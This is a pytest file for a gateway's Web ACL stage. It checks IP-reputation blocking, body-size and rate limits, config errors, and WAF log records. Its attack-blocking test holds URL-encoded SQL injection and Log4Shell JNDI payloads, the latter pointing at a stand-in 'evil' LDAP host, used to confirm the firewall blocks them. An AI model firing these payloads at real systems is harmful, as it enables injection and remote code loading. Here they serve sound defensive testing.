"""The Web ACL in the gateway's FIREWALL phase: the demo Web ACL through the whole app."""

from __future__ import annotations

import asyncio
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from bastion.clock import FrozenClock
from bastion.config import settings_from_data
from bastion.errors import ConfigError
from bastion.gateway.gateway import GatewayContext, build_gateway
from bastion.http.app import BastionApp
from bastion.pipeline import Exchange, Headers, Request, Stage
from bastion.waf.webacl import CrsVerdict, WafRequest
from bastion.waf.webacl.stage import WebAclStage, waf_log_record, webacl_layer
from tests.helpers import Reply, call
from tests.waf.webacl.util import build, byte_match, rule, web_acl

DEMO = Path(__file__).parents[3] / "src" / "bastion" / "demo"
UA = [("User-Agent", "petstore-client/1.0")]


def fake_crs(request: WafRequest, paranoia: int, excluded: frozenset[str]) -> CrsVerdict:
    if "attack" in request.query:
        return CrsVerdict(("932100", "949110"), True, "949110")
    return CrsVerdict()


def crs_layer(ctx: GatewayContext) -> list[Stage]:
    ctx.resources["crs_inspector"] = fake_crs
    return []


def make(tmp_path: Path, clock: FrozenClock, **webacl: Any) -> BastionApp:
    for name in ("openapi.yaml", "webacl.json", "ip-reputation.netset"):
        shutil.copy(DEMO / name, tmp_path / name)
    cfg = {"api": {"openapi": "openapi.yaml", "stage": "prod", "account_id": "123456789012",
                   "api_id": "petstore"},
           "functions": {"ListPets": {"handler": "bastion.demo.petstore:list_pets"},
                         "GetPet": {"handler": "bastion.demo.petstore:get_pet"}},
           "webacl": {"file": "webacl.json", "ip_lists": {
               "AWSManagedIPReputationList": ["ip-reputation.netset"]}, **webacl}}
    path = tmp_path / "bastion.yaml"
    path.write_text(yaml.safe_dump(cfg))
    gw = build_gateway(settings_from_data(cfg, path), clock=clock,
                       layers=[crs_layer, webacl_layer])
    return BastionApp(gw)


def send(app: BastionApp, path: str, *, query: str = "", body: bytes = b"",
         client: str = "203.0.113.9", method: str = "GET") -> Reply:
    return asyncio.run(call(app, method, path, query=query, headers=UA, body=body,
                            client=client))


@pytest.fixture
def app(tmp_path: Path, clock: FrozenClock) -> BastionApp:
    return make(tmp_path, clock)


def test_demo_web_acl_passes_clean_traffic(app: BastionApp) -> None:
    assert send(app, "/prod/pets").status == 200
    assert send(app, "/prod/pets/1").status == 200


def test_reputation_block_is_waf_filtered(app: BastionApp) -> None:
    reply = send(app, "/prod/pets", client="198.51.100.20")
    assert reply.status == 403
    assert reply.body == b'{"message":"Forbidden"}'
    assert reply.header("x-amzn-ErrorType") == "WafFilteredException"


@pytest.mark.parametrize(("query", "why"), [
    ("id=1%27%20or%20%271%27%3D%271", "sqli"),
    ("x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "log4j"),
    ("q=attack", "crs"),
])
def test_attacks_are_blocked(app: BastionApp, query: str, why: str) -> None:
    assert send(app, "/prod/pets", query=query).status == 403, why


def test_body_size_limit_custom_response(app: BastionApp) -> None:
    reply = send(app, "/prod/pets", method="POST", body=b'{"a":"' + b"x" * 20000 + b'"}')
    assert reply.status == 413
    assert reply.json() == {"message": "Request Entity Too Large"}
    assert reply.header("content-type") == "application/json"


def test_rate_limit_1000_per_5_minutes_per_ip(app: BastionApp, clock: FrozenClock) -> None:
    async def burst(n: int) -> list[int]:
        return [(await call(app, "GET", "/prod/pets", headers=UA, client="192.0.2.55")).status
                for _ in range(n)]

    got = asyncio.run(burst(1001))
    assert got[:1000] == [200] * 1000 and got[1000] == 429
    reply = send(app, "/prod/pets", client="192.0.2.55")
    assert reply.json() == {"message": "Too Many Requests"}
    assert reply.header("Retry-After") == "300"
    assert send(app, "/prod/pets", client="192.0.2.56").status == 200
    # The gateway's shared state logs a 1000-request limit in slots of 300/600 s, stamped at
    # the slot's end: release comes up to half a second late, admission is never early.
    clock.advance(300 + 300 / 600)
    assert send(app, "/prod/pets", client="192.0.2.55").status == 200


def test_missing_crs_engine_is_reported(tmp_path: Path, clock: FrozenClock) -> None:
    for name in ("openapi.yaml", "webacl.json"):
        shutil.copy(DEMO / name, tmp_path / name)
    cfg = {"api": {"openapi": "openapi.yaml", "stage": "prod"},
           "functions": {"ListPets": {"handler": "bastion.demo.petstore:list_pets"},
                         "GetPet": {"handler": "bastion.demo.petstore:get_pet"}},
           "webacl": {"file": "webacl.json", "ip_lists": {"NoSuchList": ["x"]}}}
    with pytest.raises(ConfigError) as exc:
        build_gateway(settings_from_data(cfg, tmp_path / "bastion.yaml"), clock=clock,
                      layers=[webacl_layer])
    assert "webacl.ip_lists.NoSuchList" in str(exc.value)
    del cfg["webacl"]["ip_lists"]  # type: ignore[attr-defined]
    with pytest.raises(ConfigError, match="OWASP CRS engine is not connected"):
        build_gateway(settings_from_data(cfg, tmp_path / "bastion.yaml"), clock=clock,
                      layers=[webacl_layer])


def test_stage_notes_labels_inserted_headers_and_log_record() -> None:
    doc = web_acl(rule("mark", byte_match({"UriPath": {}}, "/pets", "STARTS_WITH"),
                       Action={"Count": {"CustomRequestHandling": {"InsertHeaders": [
                           {"Name": "suspect", "Value": "yes"}]}}},
                       RuleLabels=[{"Name": "pets"}]))
    _, ev = build(doc)
    stage = WebAclStage(ev)
    req = Request("GET", "/pets", "a=1", Headers([("Host", "h"), ("User-Agent", "x")]),
                  client_ip="203.0.113.5")
    ex = Exchange(req, "req-1", 1_700_000_000.0, 0.0)
    assert asyncio.run(stage.run(ex)) is None
    assert ex.labels == ["awswaf:111122223333:webacl:test-acl:pets"]
    assert ex.request.headers.get("x-amzn-waf-suspect") == "yes"
    rec = waf_log_record(ex)
    assert rec["nonTerminatingMatchingRules"][0]["ruleId"] == "mark"
    assert rec["requestHeadersInserted"] == [{"name": "x-amzn-waf-suspect", "value": "yes"}]
    assert rec["httpRequest"]["requestId"] == "req-1"
    assert rec["timestamp"] == 1_700_000_000_000


def test_log_fields_feed_the_observability_layer() -> None:
    from bastion.observe.waflog import HttpRequestInfo, WafLogBuilder, parse_waf_record

    _, ev = build(web_acl(rule("sqli", {"SqliMatchStatement": {
        "FieldToMatch": {"AllQueryArguments": {}},
        "TextTransformations": [{"Priority": 0, "Type": "URL_DECODE"}]}})))
    req = Request("GET", "/pets", "id=1%27%20or%20%271%27%3D%271", Headers([("Host", "h")]),
                  client_ip="203.0.113.5")
    ex = Exchange(req, "req-2", 1_700_000_000.0, 0.0)
    why = asyncio.run(WebAclStage(ev).run(ex))
    assert why is not None and why.response_type == "WAF_FILTERED" and why.status == 403
    fields = ex.notes["waf_log"]
    record = WafLogBuilder(webacl_id=ev.acl.arn).build(
        timestamp_ms=1, request=HttpRequestInfo(client_ip="203.0.113.5", method="GET",
                                                uri="/pets", args=req.query_string),
        labels=ex.labels, body_size=0, **fields)
    assert record["terminatingRuleId"] == "sqli" and record["action"] == "BLOCK"
    assert record["terminatingRuleMatchDetails"][0]["conditionType"] == "SQL_INJECTION"
    parse_waf_record(record)  # the observability layer reads it back
